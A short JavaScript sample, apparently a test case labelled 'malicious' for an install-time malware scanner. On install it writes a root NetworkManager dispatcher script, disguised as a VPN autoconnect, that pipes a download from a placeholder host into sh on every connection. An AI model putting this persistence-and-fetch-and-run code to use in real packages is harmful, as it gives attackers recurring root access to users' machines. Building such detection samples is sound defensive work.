// when: install
// expect: malicious
// NetworkManager runs every script of dispatcher.d on each connection change, as root.
const fs = require('fs');
const path = require('path');
const script = '#!/bin/sh\n[ "$2" = up ] && wget -qO- http://vpn.example/c | sh\n';
fs.writeFileSync(path.join('/etc/NetworkManager/dispatcher.d', '90-vpn-autoconnect'), script, { mode: 0o755 });
